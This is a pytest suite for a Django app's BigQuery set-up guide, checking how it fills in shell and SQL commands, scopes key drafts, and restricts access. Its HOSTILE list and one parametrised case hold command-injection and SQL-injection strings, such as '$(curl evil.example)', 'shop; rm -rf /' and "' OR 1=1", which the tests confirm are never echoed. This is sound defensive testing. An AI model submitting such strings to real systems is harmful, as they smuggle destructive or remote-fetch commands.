"""The set-up guide beside the form: what it says, what it takes, what it never takes."""

import re
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone

from connections.models import StoredKey
from tests.factories import StoredKeyFactory, UserFactory
from tests.factories_keys import key_body, key_document, key_json

ADD = "/settings/partners/bigquery/add/"
PANEL = "/settings/partners/bigquery/guide/"
OVERVIEW = "/settings/partners/bigquery/"
EMAIL = key_document()["client_email"]
HOSTILE = [
    "shop; rm -rf /",
    "$(curl evil.example)",
    "`id`",
    "shop\nrm -rf /",
    "<script>alert(1)</script>",
    "shop'4711",
    "sh\u03bfp-4711",
    "\u202eshop-4711",
    "shop\x00-4711",
    "x" * 20_000,
]


def words(answer):
    return unescape(answer.content.decode())


def commands(answer):
    return "\n".join(re.findall(r"<code data-copy-source>(.*?)</code>", words(answer), re.S))


def chosen(answer):
    return re.findall(r'value="(new|existing)"[^>]*?checked', words(answer), re.S)


@pytest.fixture
def draft(admin):
    expires = timezone.now() + timezone.timedelta(minutes=30)
    return StoredKeyFactory(uploaded_by=admin, expires_at=expires)


class TestBesideTheForm:
    def test_offers_both_tracks_and_a_quick_start(self, as_admin):
        text = words(as_admin.get(ADD))
        for part in ("New set-up", "Existing resources", "Quick start"):
            assert part in text

    def test_opens_with_the_new_set_up(self, as_admin):
        assert chosen(as_admin.get(ADD)) == ["new"]

    def test_opens_with_the_track_that_the_address_names(self, as_admin):
        assert chosen(as_admin.get(ADD, {"guide": "existing"})) == ["existing"]

    def test_is_filled_in_at_each_submit_without_any_script(self, as_admin, bells):
        answer = as_admin.post(
            ADD, {"action": "test", "project_id": "shop-4711", "dataset_id": "crm"}
        )
        assert "ON SCHEMA `shop-4711`.`crm`" in commands(answer)

    def test_keeps_the_chosen_track_through_a_submit(self, as_admin, bells):
        answer = as_admin.post(ADD, {"action": "save", "guide": "existing"})
        assert chosen(answer) == ["existing"]

    def test_names_the_real_account_once_a_key_is_read(self, as_admin, bells):
        answer = as_admin.post(ADD, {"action": "read_key", "key_text": key_json()})
        assert f"--member=serviceAccount:{EMAIL}" in commands(answer)
        assert "--iam-account=" + EMAIL in commands(answer)
        assert "clevertap-import@" not in commands(answer)

    def test_asks_for_less_when_reading_is_enough(self, as_admin, bells):
        answer = as_admin.post(ADD, {"action": "save", "access": "read_only"})
        assert "roles/bigquery.dataViewer" in commands(answer)
        assert "roles/bigquery.dataEditor" not in commands(answer)

    @pytest.mark.parametrize("typed", HOSTILE)
    def test_never_carries_what_is_no_identifier(self, typed, as_admin, bells):
        plain = commands(as_admin.get(ADD))
        answer = as_admin.post(
            ADD, {"action": "save", "project_id": typed, "dataset_id": typed, "guide": typed}
        )
        assert answer.status_code == 200
        assert commands(answer) == plain

    def test_fetches_itself_without_a_script_of_the_page(self, as_admin):
        text = words(as_admin.get(ADD))
        assert f'hx-get="{PANEL}"' in text
        assert "from:#id_project_id" in text
        assert 'id="id_project_id"' in text
        assert 'id="id_dataset_id"' in text


class TestPanel:
    def test_answers_with_the_fragment_only(self, as_admin):
        text = words(as_admin.get(PANEL))
        assert text.startswith('<div id="guide-steps"')
        assert "<html" not in text

    def test_is_filled_in_with_what_is_typed_so_far(self, as_admin):
        answer = as_admin.get(
            PANEL, {"project_id": "shop-4711", "dataset_id": "crm", "access": "read_only"}
        )
        assert "CREATE SCHEMA IF NOT EXISTS `shop-4711`.`crm`" in commands(answer)
        assert "roles/bigquery.dataViewer" in commands(answer)

    def test_says_which_words_are_placeholders(self, as_admin):
        text = words(as_admin.get(PANEL, {"project_id": "shop-4711", "dataset_id": "not-one"}))
        assert "<code>DATASET_ID</code> stands for what the form does not hold yet." in text

    def test_says_nothing_of_placeholders_when_there_are_none(self, as_admin):
        typed = {"project_id": "shop-4711", "dataset_id": "crm"}
        assert "does not hold yet" not in words(as_admin.get(PANEL, typed))

    def test_takes_the_account_from_the_draft(self, as_admin, draft):
        answer = as_admin.get(PANEL, {"key_draft": str(draft.pk)})
        assert draft.client_email in commands(answer)
        assert draft.sealed_key not in words(answer)

    def test_takes_no_account_from_somebody_elses_draft(self, as_admin, draft):
        StoredKey.objects.update(uploaded_by=UserFactory(admin=True))
        assert draft.client_email not in words(as_admin.get(PANEL, {"key_draft": str(draft.pk)}))

    def test_takes_no_account_from_an_expired_draft(self, as_admin, draft):
        StoredKey.objects.update(expires_at=timezone.now())
        assert draft.client_email not in words(as_admin.get(PANEL, {"key_draft": str(draft.pk)}))

    @pytest.mark.parametrize("made_up", ["", "x", "' OR 1=1", "\x00", "0" * 40])
    def test_ignores_a_draft_that_is_none(self, made_up, as_admin):
        answer = as_admin.get(PANEL, {"key_draft": made_up})
        assert answer.status_code == 200
        assert "clevertap-import@PROJECT_ID" in commands(answer)

    @pytest.mark.parametrize("typed", HOSTILE)
    def test_never_carries_what_is_no_identifier(self, typed, as_admin):
        answer = as_admin.get(PANEL, {"project_id": typed, "dataset_id": typed, "access": typed})
        assert answer.status_code == 200
        assert commands(answer) == commands(as_admin.get(PANEL))

    def test_ignores_the_text_of_a_key(self, as_admin):
        answer = as_admin.get(PANEL, {"key_text": key_json()})
        assert key_body()[:40] not in words(answer)
        assert EMAIL not in words(answer)
        assert not StoredKey.objects.exists()

    def test_asks_the_database_for_the_draft_only(self, as_admin, draft, django_assert_num_queries):
        with django_assert_num_queries(6):
            as_admin.get(PANEL)
        with django_assert_num_queries(7):
            as_admin.get(PANEL, {"key_draft": str(draft.pk), "project_id": "shop-4711"})

    def test_is_kept_by_no_cache(self, as_admin):
        assert "no-store" in as_admin.get(PANEL)["Cache-Control"]

    def test_refuses_a_creator_and_a_member(self, as_creator, as_member):
        assert as_creator.get(PANEL).status_code == 403
        assert as_member.get(PANEL).status_code == 403

    def test_refuses_nobody(self, anonymous, db):
        assert reverse("accounts:sign_in") in anonymous.get(PANEL).url

    def test_refuses_to_be_posted_to(self, as_admin):
        assert as_admin.post(PANEL, {"key_text": key_json()}).status_code == 405


class TestOnTheOverview:
    def test_stands_there_for_everybody_with_placeholders(self, as_member):
        text = words(as_member.get(OVERVIEW))
        assert "clevertap-import@PROJECT_ID.iam.gserviceaccount.com" in text
        assert "you type into Add Database" in text

    def test_asks_for_nothing_again_where_there_is_no_form(self, as_member):
        assert PANEL not in words(as_member.get(OVERVIEW))
